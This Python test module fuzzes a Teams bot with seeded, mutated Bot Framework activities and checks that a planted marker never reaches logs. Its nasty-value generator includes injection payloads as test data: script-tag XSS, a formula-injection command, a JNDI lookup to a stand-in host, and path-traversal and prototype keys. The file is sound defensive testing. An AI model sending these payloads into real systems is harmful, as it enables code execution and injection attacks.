"""Makes activities nobody would send: valid ones of every kind, bent by chance that a seed repeats.

Half of them keep what lets them in (service URL, channel, bot, tenant), so that they reach a turn. Every text
that is put in carries `PLANTED`, which no log may show.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from random import Random
from typing import Any

from tests.bot.teams import shapes
from tests.bot.teams.cases import base

PLANTED = "Zanzibar-7431"
KINDS = (
    *("message", "submit", "execute", "refresh", "fetch", "submit-dialog", "accept", "decline", "sign-in"),
    *("install", "uninstall", "joined", *shapes.unheeded("")),
)
OFTEN = ("message", "submit", "execute", "fetch", "submit-dialog")
FRAME = ("serviceUrl", "channelId", "recipient", "conversation", "channelData", "from")
LARGEST = 256 * 1024
"""What is larger never gets past the server."""
WORDS = (
    *("help", "aide", "M01", "next", "suivant", "1", "2", "yes", "oui", "français", "text only", "my record"),
    *("home", "accueil", "stop", "COI", "feedback", "commentaires", "team", "équipe", "report", "rapport"),
)
VERBS = (
    *("next", "back", "home", "help", "language-fr", "language-en", "acknowledge", "open-M01", "answer"),
    *("yes", "no", "finish", "text-only", "cards", "coi", "send", "", "__class__", "../../x"),
)


@dataclass
class Bender:
    """One sequence of activities; the same seed makes the same. `company` is the share among others."""

    seed: int
    service_url: str
    people: int = 200
    verbs: tuple[str, ...] = VERBS
    company: float = 0.2

    def __post_init__(self) -> None:
        self.chance = Random(self.seed)

    def activities(self, many: int) -> Iterator[tuple[dict[str, Any], bytes]]:
        """Yield activities with what goes over the wire for them, which is not always their JSON."""
        for number in range(many):
            activity = self._whole(number)
            for _ in range(self.chance.choice((0, 0, 1, 1, 1, 2, 3))):
                self._bend(activity, keep=number % 2 == 0)
            raw = self._written(activity)
            yield activity, raw if len(raw) <= LARGEST else raw[:LARGEST]

    def members(self) -> list[dict[str, str]]:
        """Return everybody, as the connector tells of them."""
        return [
            {
                "id": f"29:{who}",
                "aadObjectId": person(who),
                "objectId": person(who),
                "userRole": "user",
                "tenantId": shapes.TENANT,
            }
            for who in range(self.people)
        ]

    def _whole(self, number: int) -> dict[str, Any]:
        """Make a valid activity of somebody, with words or a verb of ours."""
        kinds = OFTEN if self.chance.random() < 0.6 else KINDS
        body: dict[str, Any] = json.loads(json.dumps(base(self.chance.choice(kinds), self.service_url)))
        who = self.chance.randrange(self.people)
        body |= {
            "id": str(1_760_000_000_000 + number),
            "from": {**body["from"], "id": f"29:{who}", "aadObjectId": person(who)},
            "conversation": {**body["conversation"], "id": f"a:{who}"},
        }
        match body:
            case {"type": "message", "text": _}:
                body["text"] = self.chance.choice((*WORDS, PLANTED))
            case {"name": "adaptiveCard/action", "value": {"action": action}}:
                action["verb"] = action["data"]["verb"] = self.chance.choice(self.verbs)
        company = self.chance.random()
        if company >= self.company:
            return body
        return shapes.in_group(body) if company < self.company / 2 else shapes.in_channel(body)

    def _bend(self, body: dict[str, Any], *, keep: bool) -> None:
        """Make one thing inside something else, or nothing, or a second thing."""
        inside, last = self._somewhere(body, keep=keep)
        match self.chance.randrange(8):
            case 0:
                del inside[last]
            case 1 if isinstance(inside, dict):
                name = self.chance.choice((PLANTED, "", "id", "type", "__proto__", "x" * 300))
                inside[name] = self._value()
            case 2 if isinstance(inside, dict):
                # A neighbour's value in the wrong place is nearer to what we expect than noise is.
                neighbour = json.dumps(self.chance.choice(list(inside.values())))
                inside[last] = json.loads(neighbour) if len(neighbour) < 1_000 else None
            case _:
                inside[last] = self._value()

    def _somewhere(self, body: dict[str, Any], *, keep: bool) -> tuple[Any, Any]:
        """Walk to a value: what it lies in, and under which name or number."""
        names = [name for name in body if not (keep and name in FRAME)] or ["type"]
        inside: Any = body
        last: Any = self.chance.choice(names)
        while (deeper := inside.get(last) if isinstance(inside, dict) else inside[last]) and (
            isinstance(deeper, dict | list) and self.chance.random() < 0.75
        ):
            inside = deeper
            last = self.chance.choice(list(inside) if isinstance(inside, dict) else range(len(inside)))
        if inside is body:
            body.setdefault(last, "message")
        return inside, last

    def _value(self) -> Any:
        """Return a value of any kind, often a nasty one."""
        chance = self.chance
        match chance.randrange(14):
            case 0:
                return None
            case 1:
                return chance.choice((True, False))
            case 2:
                return chance.choice((0, -1, 2**31, 2**53, -(2**53), 2**53 + 1, 10**30, 0.1, 1e308, -0.0))
            case 3:
                return PLANTED + chance.choice("aé漢\U0001f600") * chance.choice((10, 1_000, 30_000))
            case 4:
                return f"{PLANTED}\u202e\u2066\u200f\ufeff\u0000\u0007\u001b[31m\u061c"
            case 5:
                return f"# {PLANTED} **b** [x](javascript:alert(1)) <script>alert(1)</script> | a | `c`"
            case 6:
                return f"=cmd|'/c calc'!A1 {PLANTED} {{{{name}}}} {{0}} %s ${{jndi:ldap://evil.example}}"
            case 7:
                return chance.choice(("", " ", "\n", "..", "/", "a/b", "%2e%2e", "null", "undefined", "NaN"))
            case 8:
                return _deep(chance.choice((3, 30, 60)), chance.choice(("list", "object")))
            case 9:
                return [self._value() for _ in range(chance.randrange(4))]
            case 10:
                return {chance.choice(("id", "type", "verb", PLANTED)): self._value() for _ in range(3)}
            case 11:
                return [{"id": "28:x"}] * chance.choice((1, 500))
            case 12:
                return "e\u0301" * chance.choice((5, 5_000)) + "\u0300" * chance.choice((1, 500))
            case _:
                return chance.choice((*WORDS, *VERBS))

    def _written(self, activity: dict[str, Any]) -> bytes:
        """Write it down, now and then with what breaks a reader."""
        written = json.dumps(activity)
        match self.chance.randrange(60):
            case 0:
                return b"{" + f'"type":"{PLANTED}",'.encode() + written[1:].encode()
            case 1:
                return written[: self.chance.randrange(len(written))].encode()
            case 2:
                return written.replace('"', "'", 2).encode()
            case 3:
                return written.encode("utf-16")
            case 4:
                return b"{" + b'"n":1e999,' + written[1:].encode()
            case 5:
                return b"{" + b'"n":"\\ud800",' + written[1:].encode()
            case 6:
                raw = bytearray(written.encode())
                for _ in range(3):
                    raw[self.chance.randrange(len(raw))] = self.chance.randrange(256)
                return bytes(raw)
            case 7:
                return self.chance.randbytes(self.chance.randrange(400))
            case _:
                return written.encode()


def person(number: int) -> str:
    """Return somebody's Entra id."""
    return f"{number:08x}-0f4e-4c55-8a4b-6f2f7b1d3e21"


def _deep(levels: int, kind: str) -> Any:
    inside: Any = PLANTED
    for _ in range(levels):
        inside = [inside] if kind == "list" else {"a": inside}
    return inside
